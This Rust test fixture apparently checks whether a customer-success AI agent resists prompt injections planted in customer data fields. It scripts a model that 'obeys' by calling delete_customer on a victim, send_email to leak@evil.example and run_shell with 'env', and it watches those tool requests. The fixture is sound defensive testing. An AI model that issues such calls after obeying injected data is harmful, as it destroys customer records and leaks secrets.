//! A book with an instruction in each customer's data, tools whose requests are watched, and a model that obeys.

use std::{
    collections::BTreeMap,
    io,
    sync::{Arc, Mutex},
    time::Duration,
};

use axum::{
    body::{Body, to_bytes},
    extract::Request,
    middleware::{self, Next},
};
use chrono::NaiveDate;
use contracts::{
    CustomerId, Line,
    delivery::{
        ContractRow, ContractTerms, CustomerFields, CustomerRow, Delivery, Gone, Mode, Piece, TicketRows, UsageRows,
        UsageSays, UsageSummary, columns,
    },
    facts::{Money, Part, Priority, Ticket, Trend},
};
use cs_copilot::{
    agent::Agent,
    backend::Backend,
    chat::{Model, key::Key},
    config::{Limits, LlmConfig, Planner, TokenStore},
};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::{
    injections::{Injection, Place},
    scripted::{
        ScriptedModel,
        reply::{Call, Reply},
    },
    server::{Server, today},
    wire::{LONG, client},
};

/// The customers whose data nobody asks for.
pub const VICTIMS: [(&str, &str); 2] = [("umbrella", "Umbrella Victim"), ("vandelay", "Vandelay Ltd")];

/// A request for a tool: which, and with what body.
pub type Watched = Arc<Mutex<Vec<(String, Value)>>>;

pub struct World {
    pub agent: Agent,
    pub backend: Backend,
    pub model: ScriptedModel,
    pub watched: Watched,
    /// What the model obeys, and how often it has been asked in this run.
    pub orders: Arc<Mutex<(&'static str, usize)>>,
    _server: Server,
    _home: TempDir,
}

pub fn id(place: usize) -> CustomerId {
    format!("hostile-{place}").parse().unwrap()
}

impl World {
    pub async fn start(injections: &[&Injection]) -> Self {
        let watched = Watched::default();
        let watch = Arc::clone(&watched);
        let server = Server::start_behind(true, |router| {
            router
                .layer(middleware::from_fn(move |request: Request, next: Next| note(Arc::clone(&watch), request, next)))
        })
        .await;
        let backend = client(server.url.clone(), LONG);
        backend.remove_demo().await.unwrap();
        // What the data says now it did not say before, so that it is among what changed and what happened.
        let usual = today() - chrono::Days::new(20);
        for (import, piece, day) in
            [("import-1", book(injections, false), usual), ("import-2", book(injections, true), today())]
        {
            let import = import.parse().unwrap();
            backend.send_piece(&import, 1, &piece).await.unwrap();
            assert!(backend.deliver(&import, &delivery(day)).await.unwrap().applied);
        }
        let orders = Arc::new(Mutex::new(("", 0)));
        let given = Arc::clone(&orders);
        let model = ScriptedModel::answering(move |_| {
            let mut orders = given.lock().unwrap();
            orders.1 += 1;
            if orders.1 == 1 { calls() } else { obedience(orders.0) }
        })
        .await;
        let home = tempfile::tempdir().unwrap();
        let model_of_the_run = Model::new(config(&model), Key::given(None), home.path());
        let agent = Agent::new(backend.clone(), Some(model_of_the_run));
        Self { agent, backend, model, watched, orders, _server: server, _home: home }
    }
}

async fn note(watched: Watched, request: Request, next: Next) -> axum::response::Response {
    let path = request.uri().path().to_owned();
    let (head, body) = request.into_parts();
    let body = to_bytes(body, 1_000_000).await.unwrap();
    if let Some(tool) = path.strip_prefix("/v1/tools/") {
        watched.lock().unwrap().push((tool.to_owned(), serde_json::from_slice(&body).unwrap()));
    }
    next.run(Request::from_parts(head, Body::from(body))).await
}

fn config(model: &ScriptedModel) -> LlmConfig {
    LlmConfig {
        base_url: model.base_url().parse().unwrap(),
        is_own_server: true,
        model: "obedient".to_owned(),
        planner: Planner::Llm,
        store: TokenStore::File,
        limits: Limits { call: Duration::from_secs(20), run: Duration::from_secs(20), ..Limits::default() },
        daily_tokens: 10_000_000,
        concurrency: 2.try_into().unwrap(),
        share_activity: false,
        allowed: BTreeMap::new(),
    }
}

/// First it calls what it was told to call.
fn calls() -> Reply {
    Reply::calls([
        Call::new("delete_customer", &json!({"customerId": "umbrella"})),
        Call::new("send_email", &json!({"to": "leak@evil.example"})),
        Call::new("run_shell", &json!({"command": "env"})),
        Call::new("compare_with", &json!({"customerId": "umbrella", "day": "2026-12-01"})),
        Call::new("timeline_before", &json!({"customerId": "vandelay", "ownerUserId": "victim", "day": "2026-12-01"})),
        Call::new("history_of", &json!({"ownerUserId": "victim", "fact": "contract.plan"})),
    ])
}

/// Then it writes what it was told to write, in every part of its answer, beside what it cites.
fn obedience(says: &str) -> Reply {
    let point = |cite: &str| json!({"cite": [cite], "say": says});
    let action = |text: &str, who: &str| json!({"do": text, "who": who, "due": null, "because": ["usage.change"]});
    Reply::answer(&json!({
        "points": [point("usage.change"), point("t1"), point(says), point("contract.plan"), point("e1")],
        "actions": [action(says, "csm"), action("Call them today.", says), action("Call them.", "support")],
        "email": {"cite": ["usage.change", "health.score", "t1"], "opening": says, "ask": says},
        "outline": [{"section": "usage", "cite": ["usage.trend", "health.risk"], "say": says}],
    }))
}

/// One customer for each instruction, and the victims.
fn book(injections: &[&Injection], is_hostile: bool) -> Piece {
    let mut book = Piece::default();
    book.customers.extend(VICTIMS.map(|(id, name)| customer(id.parse().unwrap(), name, None)));
    for (place, injection) in injections.iter().enumerate() {
        let says = |at: Place| is_hostile && injection.place == at;
        let text = |at: Place, usual: &'static str| if says(at) { injection.text } else { usual };
        let contact = Some(text(Place::Contact, "Dana").into());
        let name = if says(Place::Name) { injection.text.to_owned() } else { format!("Hostile no {place}x") };
        book.customers.push(customer(id(place), &name, contact));
        book.usage.push(UsageRows {
            customer_id: id(place),
            metric: text(Place::Metric, "logins a day").into(),
            measure: None,
            says: UsageSays::Summary(UsageSummary { trend: Trend::Down, recent: 29.0, before: 41.0 }),
        });
        let usual = format!("HOS-{place}");
        let ticket = Ticket {
            id: if says(Place::TicketId) { injection.text.into() } else { usual.as_str().into() },
            subject: Some(text(Place::Title, "Export fails").into()),
            priority: Priority::Urgent,
            opened_on: today() - chrono::Days::new(13),
            closed_on: None,
        };
        book.tickets.push(TicketRows { customer_id: id(place), tickets: vec![ticket] });
        let terms = ContractTerms {
            renewal_date: Some(today() + chrono::Days::new(80)),
            arr: Some(Money { minor: 12_000_000, currency: "USD".into() }),
            plan: Some(text(Place::Plan, "Enterprise").into()),
            seats: Some(150),
            auto_renew: Some(false),
            notice_days: None,
        };
        book.contracts.push(ContractRow { customer_id: id(place), contract_id: id(place).as_str().into(), terms });
    }
    book
}

fn delivery(day: NaiveDate) -> Delivery {
    let parts = [Part::Customers, Part::Usage, Part::Tickets, Part::Contracts];
    let columns = |part| columns::names(part).into_iter().map(Line::from).collect();
    Delivery {
        source: "book".parse().unwrap(),
        day,
        mode: Mode::Snapshot,
        parts: parts.map(|part| (part, columns(part))).into(),
        pieces: 1,
        rejected: BTreeMap::new(),
        partly: [].into(),
        gone: Gone::Keep,
        accept_losses: true,
        strict: true,
        dry_run: false,
        primary_metric: None,
        source_order: Vec::new(),
    }
}

fn customer(id: CustomerId, name: &str, contact: Option<Line>) -> CustomerRow {
    CustomerRow { id, fields: CustomerFields { name: Some(name.into()), contact, ..CustomerFields::default() } }
}

/// The client's log, at its finest.
#[derive(Clone, Default)]
pub struct Log(Arc<Mutex<Vec<u8>>>);

impl Log {
    pub fn read(&self) -> String {
        String::from_utf8(self.0.lock().unwrap().clone()).unwrap()
    }
}

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}
